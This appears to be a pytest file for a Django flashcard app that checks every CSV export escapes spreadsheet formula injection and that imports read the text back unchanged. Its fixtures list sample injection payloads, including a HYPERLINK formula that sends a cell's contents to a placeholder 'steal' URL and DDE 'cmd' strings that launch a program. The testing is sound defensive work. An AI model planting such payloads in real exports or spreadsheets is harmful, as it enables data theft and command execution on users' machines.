"""CSV injection (OWASP): a cell a spreadsheet would run as a formula is written as text, in every
CSV the app writes, and the card import reads back exactly what was exported."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from flashcards.services.card_csv import export_cards_csv, import_cards_csv
from quizzes.csv_safety import FORMULA_STARTS, csv_writer, escape_cell, read_cell
from tests.factories import CardFactory, DeckFactory

PAYLOADS = [
    '=HYPERLINK("http://example.org/steal?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''double",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_written_cell_starts_a_formula(payload):
    written = escape_cell(payload)
    assert not written.startswith(FORMULA_STARTS)
    assert read_cell(written) == payload


@pytest.mark.parametrize("text", ["Geneva", "'tis the season", "", "1,500", "A = B", "a-b"])
def test_plain_cells_are_written_as_they_are(text):
    assert escape_cell(text) == text
    assert read_cell(text) == text


def test_the_writer_escapes_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["=1", "ok"], [None, 3]])
    assert cells(buffer.getvalue()) == [["'=1", "ok"], ["", "3"]]


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole():
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows([["a\rb", "c"], ["d", "e"]])
    assert cells(buffer.getvalue()) == [["a\rb", "c"], ["d", "e"]]


@pytest.fixture
def deck(db):
    return DeckFactory(slug="geneva")


def test_the_card_export_escapes_formulas_and_the_import_keeps_the_text(deck):
    for n, payload in enumerate(PAYLOADS):
        CardFactory(deck=deck, front=f"Front {n} {payload}", back=payload, tags="")
    CardFactory(deck=deck, front="=1+1 as a front", back="plain back", tags="")
    exported = export_cards_csv(deck=deck)
    for row in cells(exported)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    other = DeckFactory(slug="copy")
    import_cards_csv(deck=other, text=exported)
    assert sorted(other.cards.values_list("front", "back")) == sorted(
        deck.cards.values_list("front", "back")
    )


def test_the_export_command_writes_the_escaped_file(deck, tmp_path):
    CardFactory(deck=deck, front="Whom?", back='=HYPERLINK("http://x")', tags="")
    path = tmp_path / "cards.csv"
    call_command("export_cards_csv", "geneva", str(path), verbosity=0)
    assert cells(path.read_text(encoding="utf-8"))[1][1] == '\'=HYPERLINK("http://x")'


def test_every_csv_the_app_writes_goes_through_the_escaping_writer():
    # A new export that calls csv.writer directly would write formulas again.
    allowed = Path(settings.BASE_DIR, "quizzes", "csv_safety.py")
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for path in Path(settings.BASE_DIR, "quizzes").rglob("*.py")
        if path != allowed
        and re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
